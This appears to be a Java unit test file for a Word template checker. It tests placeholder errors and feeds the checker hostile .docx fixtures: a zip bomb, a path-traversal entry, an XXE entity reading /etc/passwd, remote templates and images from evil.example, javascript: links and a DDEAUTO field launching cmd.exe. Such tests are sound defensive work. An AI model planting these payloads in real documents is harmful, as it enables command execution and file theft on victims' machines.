package org.presalesflow.templates;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** A template that cannot be used is found before anybody makes a document of it, and its author is told what is wrong. */
class TemplateCheckTest {

    private static final Vocabulary VOCABULARY = Words.vocabulary();
    private static final String RELATIONSHIPS = "word/_rels/document.xml.rels";
    private static final String KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void placeholders(String what, byte[] template, String told) {
        assertThat(TemplateCheck.of(template, VOCABULARY).findings())
                .singleElement()
                .asString()
                .isEqualTo(told);
    }

    static Stream<Arguments> placeholders() {
        return Stream.of(
                arguments(
                        "an unknown value",
                        Words.of("To pay: {{totl}}"),
                        "{{totl}} is no value of a case; did you mean {{total}}?"),
                arguments(
                        "like nothing that there is",
                        Words.of("{{weatherInParisNextWeek}}"),
                        "{{weatherInParisNextWeek}} is no value of a case"),
                arguments(
                        "in the wrong case",
                        Words.of("{{Company}}"),
                        "{{Company}} is no value of a case; did you mean {{company}}?"),
                arguments(
                        "an unknown section",
                        Words.of("{{?nees}}", "{{/nees}}"),
                        "{{?nees}} is no value of a case; did you mean {{need}}?"),
                arguments(
                        "spread over runs",
                        Words.file(document -> {
                            XWPFParagraph paragraph = document.createParagraph();
                            paragraph.createRun().setText("{{to");
                            paragraph.createRun().setText("tl}");
                            paragraph.createRun().setText("}");
                        }),
                        "{{totl}} is no value of a case; did you mean {{total}}?"),
                arguments(
                        "in the head",
                        Words.file(
                                document -> document.createHeader(org.apache.poi.wp.usermodel.HeaderFooterType.DEFAULT)
                                        .createParagraph()
                                        .createRun()
                                        .setText("{{numbre}}")),
                        "{{numbre}} is no value of a case; did you mean {{number}}?"),
                arguments(
                        "with a space",
                        Words.of("{{ company }}"),
                        "{{ company }} is no name; a name is letters and digits, without spaces"),
                arguments(
                        "an expression",
                        Words.of("{{total.multiply(2)}}"),
                        "{{total.multiply(2)}} is no name; a name is letters and digits, without spaces"),
                arguments(
                        "not closed",
                        Words.of("{{company and more"),
                        "a placeholder is not closed with }} in the same paragraph: {{company and more"),
                arguments(
                        "not begun",
                        Words.of("company}} and more"),
                        "a placeholder that ends with }} does not begin with {{ in the same paragraph: company}}"),
                arguments(
                        "a section that is never closed",
                        Words.of("{{?total}}", "{{total}}"),
                        "section {{?total}} is never closed; {{/total}} is missing"),
                arguments(
                        "a section that is not open",
                        Words.of("{{/total}}"),
                        "{{/total}} closes a section that is" + " not open here"),
                arguments(
                        "a list in a paragraph",
                        Words.of("{{needs}}"),
                        "{{needs}} is a list: put it into the heading of a table, or repeat paragraphs between"
                                + " {{?needs}} and {{/needs}}"),
                arguments(
                        "a column outside of its list",
                        Words.of("{{needText}}"),
                        "{{needText}} is a column of {{needs}}: write [needText] in the row below it, or repeat"
                                + " paragraphs between {{?needs}} and {{/needs}}"),
                arguments(
                        "an unknown column",
                        Words.table(new String[] {"Need {{needs}}", "Priority"}, new String[] {"[needText]", "[prio]"}),
                        "[prio] is no column of needs"),
                arguments(
                        "a misspelled column",
                        Words.table(new String[] {"Need {{needs}}"}, new String[] {"[needTxt]"}),
                        "[needTxt] is no column of needs; did you mean [needText]?"),
                arguments(
                        "a value in the row that is repeated",
                        Words.table(new String[] {"Need {{needs}}"}, new String[] {"[needText] {{company}}"}),
                        "the row that is repeated for {{needs}} takes names of its rows only, such as [needId]; not"
                                + " {{company}}"),
                arguments(
                        "a list without a row",
                        Words.table(new String[] {"Need {{needs}}", "Priority"}),
                        "below the row with {{needs}} there is no row to be repeated"),
                arguments(
                        "two lists in one table",
                        Words.table(new String[] {"{{needs}}", "{{risks}}"}, new String[] {"[row]", "[row]"}),
                        "a table is filled by one list only, not by {{risks}} as well"),
                arguments("a picture", Words.of("{{@company}}"), kind("{{@company}}")),
                arguments("another document", Words.of("{{+company}}"), kind("{{+company}}")),
                arguments("a table of the library", Words.of("{{#company}}"), kind("{{#company}}")),
                arguments("a numbering", Words.of("{{*company}}"), kind("{{*company}}")));
    }

    private static String kind(String placeholder) {
        return placeholder + " is of a kind that is not filled; there are values {{name}}, sections {{?name}} …"
                + " {{/name}} and tables";
    }

    @Test
    void sectionsThatOverlapAreToldApart() {
        assertThat(TemplateCheck.of(Words.of("{{?total}}", "{{?company}}", "{{/total}}", "{{/company}}"), VOCABULARY)
                        .findings())
                .contains("{{/total}} closes a section, but {{?company}} is the one that is open");
    }

    @Test
    void everythingThatIsWrongIsToldAtOnce() {
        assertThat(TemplateCheck.of(Words.of("{{totl}} {{compny}}", "{{?need}}"), VOCABULARY)
                        .findings())
                .hasSize(3);
    }

    @Test
    void whatATemplateUsesIsKnown() {
        byte[] template = Words.table(new String[] {"{{needs}} of {{company}}"}, new String[] {"[needText]"});

        TemplateCheck.Result result = TemplateCheck.of(template, VOCABULARY);

        assertThat(result.findings()).isEmpty();
        assertThat(result.names()).containsExactly("company", "needs");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void files(String what, byte[] template, String told) {
        assertThat(TemplateCheck.of(template, VOCABULARY).findings())
                .isNotEmpty()
                .anySatisfy(finding -> assertThat(finding).contains(told));
    }

    static Stream<Arguments> files() throws IOException {
        byte[] fine = Words.of("{{company}}");
        return Stream.of(
                arguments("nothing", new byte[0], "it is no Word document"),
                arguments("text", "Hello".getBytes(), "it is no Word document"),
                arguments("another archive", zip("readme.txt", 10), "it is no Word document"),
                arguments(
                        "a bomb", zip("word/document.xml", 60 * 1024 * 1024), "it unpacks to more than a document is"),
                arguments("too large", noise(), "it is larger than 5 MB"),
                arguments("a way out", zip("../../etc/passwd", 10), "which no document has"),
                arguments(
                        "a spreadsheet",
                        type(fine, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
                        "it is no Word document"),
                arguments(
                        "macros",
                        type(fine, "application/vnd.ms-word.document.macroEnabled.main+xml"),
                        "it holds macros"),
                arguments(
                        "hidden macros", Words.changed(fine, "word/vbaProject.bin", before -> "x"), "it holds macros"),
                arguments(
                        "entities",
                        Words.changed(
                                fine,
                                "word/document.xml",
                                xml -> "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>"
                                        + xml.substring(xml.indexOf("?>") + 2)),
                        "word/document.xml is no plain XML"),
                arguments(
                        "a template from elsewhere",
                        related(fine, "attachedTemplate", "http://evil.example/x.dotm", true),
                        "attachedTemplate"),
                arguments(
                        "a picture from elsewhere",
                        related(fine, "image", "http://evil.example/x.png", true),
                        "it fetches a image from http://evil.example/x.png"),
                arguments("an OLE object", related(fine, "oleObject", "embeddings/x.bin", false), "oleObject"),
                arguments("another document", related(fine, "aFChunk", "x.html", false), "aFChunk"),
                arguments("a frame", related(fine, "frame", "http://evil.example/", true), "frame"),
                arguments("a script as a link", related(fine, "hyperlink", "javascript:alert(1)", true), "hyperlink"),
                arguments(
                        "a link to a value",
                        related(fine, "hyperlink", "https://evil.example/{{company}}", true),
                        "placeholders are for text only"),
                arguments("a field that fetches", field("INCLUDETEXT \"http://evil.example/x\""), "INCLUDETEXT"),
                arguments("a picture by field", field("INCLUDEPICTURE http://evil.example/x.png"), "INCLUDEPICTURE"),
                arguments("a field that runs", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "DDEAUTO"),
                arguments("a link to a share by field", field("HYPERLINK \"file://evil/share\""), "leads to"),
                arguments("a script by field", field("HYPERLINK \"javascript:alert(1)\""), "leads to"),
                arguments(
                        "sections without end",
                        Words.of("{{?needs}}".repeat(30) + "x" + "{{/needs}}".repeat(30)),
                        "is never done"),
                arguments(
                        "elements without end",
                        body(fine, "<w:smartTag>".repeat(20_000) + "</w:smartTag>".repeat(20_000)),
                        "word/document.xml is no plain XML"),
                arguments(
                        "a template from elsewhere, in other words",
                        related(fine, "attachedTemplate/", "http://evil.example/x.dotm", true),
                        "which a template must not"),
                arguments("a value in a field", field("HYPERLINK \"{{company}}\""), "placeholders are for text only"),
                arguments(
                        "a picture by its address",
                        body(
                                fine,
                                "<w:r><w:pict><v:imagedata xmlns:v=\"urn:schemas-microsoft-com:vml\""
                                        + " src=\"http://evil.example/x.png\"/></w:pict></w:r>"),
                        "it fetches http://evil.example/x.png"),
                arguments("a part of another file", body(fine, "<w:subDoc/>"), "subDoc"),
                arguments("a field in pieces", fieldInPieces(), "DDEAUTO"),
                arguments(
                        "a picture by its description",
                        Words.changed(
                                fine,
                                "word/document.xml",
                                xml -> xml.replace("<w:p>", "<w:p w:rsidR=\"{{company}}\">")),
                        "placeholders are for text only"));
    }

    @Test
    void ordinaryFieldsAndLinksAreFine() throws IOException {
        byte[] template = related(field("PAGE \\* MERGEFORMAT"), "hyperlink", "https://company.example/", true);

        assertThat(TemplateCheck.of(template, VOCABULARY).findings()).isEmpty();
    }

    private static byte[] type(byte[] file, String type) {
        return Words.changed(
                file, "[Content_Types].xml", xml -> xml.replaceAll("application/vnd[^\"]*document\\.main\\+xml", type));
    }

    private static byte[] related(byte[] file, String kind, String target, boolean external) {
        String relationship = "<Relationship Id=\"rId99\" Type=\"" + KINDS + kind + "\" Target=\"" + target + "\""
                + (external ? " TargetMode=\"External\"" : "") + "/>";
        return Words.changed(
                file,
                RELATIONSHIPS,
                xml -> xml == null || !xml.contains("</Relationships>")
                        ? "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + relationship + "</Relationships>"
                        : xml.replace("</Relationships>", relationship + "</Relationships>"));
    }

    private static byte[] field(String instruction) {
        return Words.file(document -> {
            var field = document.createParagraph().getCTP().addNewFldSimple();
            field.setInstr(instruction);
            field.addNewR().addNewT().setStringValue("1");
        });
    }

    private static byte[] fieldInPieces() {
        return Words.changed(
                Words.of("here"),
                "word/document.xml",
                xml -> xml.replace(
                        "<w:p>",
                        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>"
                                + "<w:r><w:instrText>AUTO cmd</w:instrText></w:r>"
                                + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"));
    }

    private static byte[] body(byte[] file, String inParagraph) {
        return Words.changed(file, "word/document.xml", xml -> xml.replaceFirst("<w:p>", "<w:p>" + inParagraph));
    }

    private static byte[] zip(String name, int size) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(new byte[size]);
        }
        return out.toByteArray();
    }

    private static byte[] noise() {
        byte[] noise = new byte[DocxFile.LARGEST + 1];
        new Random(1).nextBytes(noise);
        return noise;
    }
}
